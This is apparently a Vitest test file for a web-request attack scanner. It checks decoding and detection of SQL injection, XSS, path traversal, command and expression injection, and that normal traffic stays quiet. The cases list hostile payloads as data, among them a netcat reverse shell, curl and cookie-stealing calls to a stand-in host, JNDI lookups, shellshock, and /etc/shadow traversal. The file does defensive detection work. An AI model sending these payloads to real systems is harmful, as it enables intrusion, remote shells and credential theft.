import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { sharedDataPath } from '../../../core/testing/shared-data.ts';
import { readJsonLines } from '../jsonl.ts';
import { decodeValue, rawRange } from './decode.ts';
import { requestPartsOfRow } from './parts.ts';
import { scanRequest, type SignatureHit, type SignatureKind } from './scan.ts';

const BENIGN = readFileSync(new URL('./testdata/benign-values.txt', import.meta.url), 'utf8').split('\n').filter((v) => v.length > 0);

/** A value sent the ways a client sends one: query, form body, JSON body, REST path segment, cookie. */
function everywhere(value: string): Record<string, SignatureHit[]> {
  const encoded = encodeURIComponent(value);
  return {
    query: scanRequest({ path: '/search', query: `q=${encoded}&page=2` }),
    form: scanRequest({ path: '/login', body: `user=${encoded}&remember=on`, contentType: 'application/x-www-form-urlencoded' }),
    json: scanRequest({ path: '/api/cart', body: JSON.stringify({ items: [{ id: 7, note: value }], coupon: null }), contentType: 'application/json' }),
    path: scanRequest({ path: `/items/${encoded}` }),
    cookie: scanRequest({ path: '/', headers: [['cookie', `theme=dark; last=${encoded}`]] }),
  };
}

describe('decodeValue', () => {
  it('maps every decoded character back to the raw characters it came from, through several layers', () => {
    const raw = 'a%2527+%26lt;b';
    const d = decodeValue(raw, { form: true });
    expect(d.text).toBe("a' <b");
    // The quote came from `%2527` (double-encoded), the `<` from `%26lt;` (an entity, percent-encoded).
    expect(rawRange(d, 1, 2)).toEqual([1, 6]);
    expect(raw.slice(...rawRange(d, 3, 4))).toBe('%26lt;');
    expect(raw.slice(...rawRange(d, 1, 5))).toBe('%2527+%26lt;b');
  });

  it('reads overlong UTF-8, %u escapes, backslash escapes, full-width forms, and JSON string escapes', () => {
    expect(decodeValue('%c0%ae%c0%ae%c0%af').text).toBe('../');
    expect(decodeValue('%u003cscript').text).toBe('<script');
    expect(decodeValue('\\u003cimg\\x20src').text).toBe('<img src');
    expect(decodeValue('＜svg＞').text).toBe('<svg>');
    expect(decodeValue('say \\"hi\\" \\\\ bye', { json: true }).text).toBe('say "hi" \\ bye');
    // `+` is a space only in the form encoding, not after a percent escape made it.
    expect(decodeValue('1%2B1+2', { form: true }).text).toBe('1+1 2');
  });

  it('leaves text without escapes as it is', () => {
    const d = decodeValue("O'Brien & sons 100%");
    expect(d.text).toBe("O'Brien & sons 100%");
    expect(rawRange(d, 0, d.text.length)).toEqual([0, 19]);
  });
});

describe('scanRequest: attacks in context', () => {
  const cases: Array<[SignatureKind, string, string]> = [
    // [kind, value as typed, the part of it the fragment must contain]
    ['sql_injection', '1 order by 1--', 'order by 1'],
    ['sql_injection', "' union all select 1--", 'union all select'],
    ['sql_injection', "x' OR 'a'='a", "OR 'a'='a"],
    ['sql_injection', "1) AND 4455=4455 AND (1=1", 'AND 4455=4455'],
    ['sql_injection', "1;SELECT pg_sleep(3)--", 'SELECT pg_sleep(3)'],
    ['sql_injection', "shoe' UnIoN/**/SeLeCt name,pass FrOm accounts#", 'UnIoN/**/SeLeCt'],
    ['sql_injection', "9','1');shutdown--", 'shutdown'],
    ['sql_injection', "1 AND (SELECT 3 FROM (SELECT(SLEEP(4)))q)", 'SLEEP(4)'],
    ['xss', '<script>fetch("//x.example/"+document.cookie)</script>', '<script>'],
    ['xss', '<img src=q onerror=confirm(2)>', 'onerror=confirm(2)'],
    ['xss', '"><svg/onload=alert`1`>', 'onload='],
    ['xss', '" onpointerenter="top.alert(3)', 'onpointerenter'],
    ['xss', 'javascript:eval(atob("YWxlcnQoMSk="))', 'javascript:eval'],
    ['path_traversal', '../../../../etc/shadow', '../../'],
    ['path_traversal', '..\\..\\boot.ini', '..\\..\\'],
    ['path_traversal', '../settings.yml', 'settings.yml'],
    ['command_injection', '8.8.8.8; uname -a', 'uname -a'],
    ['command_injection', 'a|nc 10.1.1.1 9001 -e /bin/sh', 'nc 10.1.1.1'],
    ['command_injection', '$(curl -s http://x.example/p)', '$(curl'],
    ['command_injection', 'x && sleep 7', 'sleep 7'],
    ['expression_injection', '${jndi:dns://x.example/q}', '${jndi:dns'],
    ['expression_injection', "{{ self.__init__.__globals__ }}", '__globals__'],
  ];

  it.each(cases)('%s: %s', (kind, value, part) => {
    for (const [where, hits] of Object.entries(everywhere(value))) {
      // REST paths carry no traversal payload in one segment that browsers would not have removed: covered below.
      const hit = hits.find((h) => h.kind === kind);
      expect(hit, `${where}: ${JSON.stringify(hits)}`).toBeDefined();
      expect(hit!.decoded).toContain(part);
      expect(hit!.confidence).toBe('high');
    }
  });

  it('reports the fragment as the request carried it, with its offsets in the raw value', () => {
    const query = 'id=7&q=shoe%27%20UNION%20ALL%20SELECT%20card%20FROM%20cards--&page=1';
    const [hit] = scanRequest({ path: '/search', query });
    const raw = 'shoe%27%20UNION%20ALL%20SELECT%20card%20FROM%20cards--';
    expect(hit).toMatchObject({ kind: 'sql_injection', construct: 'union_select', location: 'query', field: 'q' });
    expect(hit.fragment).toBe(raw.slice(hit.start, hit.end));
    expect(hit.fragment.startsWith('%27')).toBe(true);
    expect(hit.decoded).toBe("' UNION ALL SELECT card FROM cards--");
  });

  it('reports a JSON value by its pointer, with offsets in the raw string literal (escapes included)', () => {
    const body = '{"cart":{"items":[{"sku":"A1","note":"x\\" onfocus=\\"alert(1)"}]}}';
    const [hit] = scanRequest({ path: '/api/cart', body, contentType: 'application/json' });
    expect(hit).toMatchObject({ kind: 'xss', location: 'body', field: '/cart/items/0/note' });
    expect(hit.fragment).toBe('\\" onfocus=\\"alert(1)');
    expect(hit.decoded).toBe('" onfocus="alert(1)');
  });

  it('finds traversal in a path (any .. segment, encoded or not) and in headers', () => {
    expect(scanRequest({ path: '/static/%2e%2e/%2e%2e/etc/passwd' })[0]).toMatchObject({ kind: 'path_traversal', location: 'path' });
    expect(scanRequest({ path: '/static/..;/admin' })[0]).toMatchObject({ kind: 'path_traversal', location: 'path' });
    const [ua] = scanRequest({ path: '/', headers: [['user-agent', '() { :; }; /bin/bash -c "id"']] });
    expect(ua).toMatchObject({ kind: 'command_injection', construct: 'shellshock', location: 'header', field: 'user-agent' });
    const [jndi] = scanRequest({ path: '/', headers: [['x-api-version', '${jndi:ldap://x.example/a}']] });
    expect(jndi).toMatchObject({ kind: 'expression_injection', location: 'header' });
  });

  it('stays quiet about a truncated or invalid JSON body, and bounds what it reads', () => {
    expect(scanRequest({ path: '/api', body: '{"q": "O\'Brien", "items": [1, 2', contentType: 'application/json' })).toEqual([]);
    const huge = 'a'.repeat(100_000) + "' union select 1--";
    expect(scanRequest({ path: '/api', query: `q=${huge}` })).toEqual([]);
  });
});

describe('scanRequest: normal traffic', () => {
  it.each(BENIGN)('%s', (value) => {
    const hits = Object.entries(everywhere(value)).flatMap(([where, h]) => h.map((x) => `${where}: ${x.kind} ${x.construct} ${x.decoded}`));
    // A `..` segment in a REST path is traversal whatever it says; the other places must stay quiet.
    const allowed = value.startsWith('..') ? hits.filter((h) => !h.startsWith('path:')) : hits;
    expect(allowed).toEqual([]);
  });

  it('ordinary headers, cookies and bodies of a browser and an API client stay quiet', () => {
    const headers: Array<[string, string]> = [
      ['user-agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36'],
      ['referer', "https://www.example.com/search?q=o%27brien+%26+sons&sort=price;asc"],
      ['cookie', '_ga=GA1.2.1234567.890; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig; cart=%7B%22n%22%3A2%7D'],
      ['authorization', 'Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzY29wZSI6InJlYWQ6b3JkZXJzIn0.c2ln'],
      ['x-forwarded-for', '203.0.113.7, 10.0.0.2'],
      ['if-match', 'W/"5f3-abc"'],
    ];
    const bodies = [
      JSON.stringify({ query: 'query($id: ID!) { product(id: $id) { name price(currency: EUR) } }', variables: { id: '42' } }),
      JSON.stringify({ items: [{ sku: 'TSHIRT-M-RED', qty: 2 }], address: { line1: "12 O'Connell St.", city: 'Dublin' }, note: 'Leave at door; ring twice & wait' }),
      JSON.stringify({ review: 'Works great!! <3 Would buy again. 5/5 -- Jane', rating: 5 }),
      JSON.stringify({ url: 'https://cdn.example.com/img/a.png?w=200&h=100', redirect: '/account/orders?page=2' }),
    ];
    const hits = [
      ...scanRequest({ path: '/api/products/42/reviews', query: 'sort=-created&filter[rating]=5&fields=id,title', headers }),
      ...bodies.flatMap((body) => scanRequest({ path: '/api/graphql', body, contentType: 'application/json' })),
      ...scanRequest({ path: '/checkout', body: 'name=Se%C3%A1n+O%27Neill&addr=Apt.+%234B%2C+5+%26+6+Main+St.&card=4111+1111+1111+1111', contentType: 'application/x-www-form-urlencoded' }),
    ];
    expect(hits).toEqual([]);
  });

  it('CSIC 2010: no hit on its 36,000 normal training requests', async () => {
    let rows = 0;
    const flagged: string[] = [];
    for await (const line of readJsonLines(path.join(sharedDataPath('csic2010'), 'train-normal.jsonl.gz'))) {
      if (!('value' in line)) continue;
      rows++;
      const hits = scanRequest(requestPartsOfRow(line.value as never));
      if (hits.length) flagged.push(`${(line.value as { req_path: string }).req_path}: ${hits.map((h) => h.decoded).join(' | ')}`);
    }
    expect(rows).toBe(36_000);
    expect(flagged).toEqual([]);
  }, 60_000);
});
